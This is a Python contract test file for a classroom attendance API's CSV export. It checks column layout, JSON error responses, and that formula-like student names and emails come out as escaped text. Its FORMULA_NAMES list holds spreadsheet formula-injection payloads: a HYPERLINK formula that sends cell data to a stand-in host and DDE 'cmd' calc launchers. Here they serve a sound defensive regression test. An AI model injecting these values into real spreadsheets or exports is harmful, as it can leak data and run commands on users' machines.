"""SPEC §4's `?format=csv`: the attendance matrix as a spreadsheet opens it."""

from __future__ import annotations

import csv
import io
from typing import Any

from tests.contract.helpers import (
    NOT_CLASS_TEACHER,
    FinishedSession,
    fails,
    run_session,
    stranger_teacher_class,
    tag,
)
from tests.support.client import Account, Api

# What the issue saw exported as live formulas, and their kin.
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&B2,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)


async def attendance(api: Api, caller: Account, class_id: str, query: str = "") -> Any:
    return await api.request("GET", f"/class/{class_id}/attendance{query}", caller.token)


async def csv_rows(api: Api, teacher: Account, class_id: str, query: str = "") -> list[list[str]]:
    response = await attendance(api, teacher, class_id, f"?format=csv{query}")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert all(len(row) == len(rows[0]) for row in rows), rows
    return rows


def session_column(header: list[str], session: FinishedSession) -> int:
    """The CSV column of a session, labelled by its id or its start time."""
    (column,) = [
        index
        for index, label in enumerate(header)
        if label in (session.session_id, session.started_at)
    ]
    return column


async def test_attendance_as_csv(api: Api) -> None:
    teacher, class_id, (ann, bob) = await api.classroom(2)
    first = await run_session(api, teacher, class_id, {ann.id: "present", bob.id: "late"})
    second = await run_session(api, teacher, class_id, {ann.id: "excused"})
    header, *rows = await csv_rows(api, teacher, class_id)
    assert len(rows) == 2
    columns = [session_column(header, first), session_column(header, second)]
    assert columns[0] < columns[1]
    for student, statuses in ((ann, ["present", "excused"]), (bob, ["late", "absent"])):
        (row,) = [row for row in rows if student.email in row or student.id in row]
        assert [row[column] for column in columns] == statuses, row


async def test_attendance_as_csv_errors_stay_json(api: Api) -> None:
    stranger, class_id = await stranger_teacher_class(api)
    response = await attendance(api, stranger, class_id, "?format=csv")
    fails(response, 403, NOT_CLASS_TEACHER)


async def test_names_and_emails_that_look_like_formulas_are_exported_as_text(api: Api) -> None:
    teacher = await api.teacher()
    class_id = await api.create_class(teacher)
    students = [
        await api.signup("student", name, f"{sign}{tag()}@school.example")
        for name, sign in zip(FORMULA_NAMES, ("=", "+", "-", "="), strict=True)
    ]
    for student in students:
        await api.enroll(teacher, class_id, student)
    await run_session(api, teacher, class_id, {student.id: "present" for student in students})
    _, *rows = await csv_rows(api, teacher, class_id)
    cells = {cell for row in rows for cell in row}
    for student in students:
        assert "'" + student.name in cells, rows
        assert "'" + student.email in cells, rows
    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")], rows
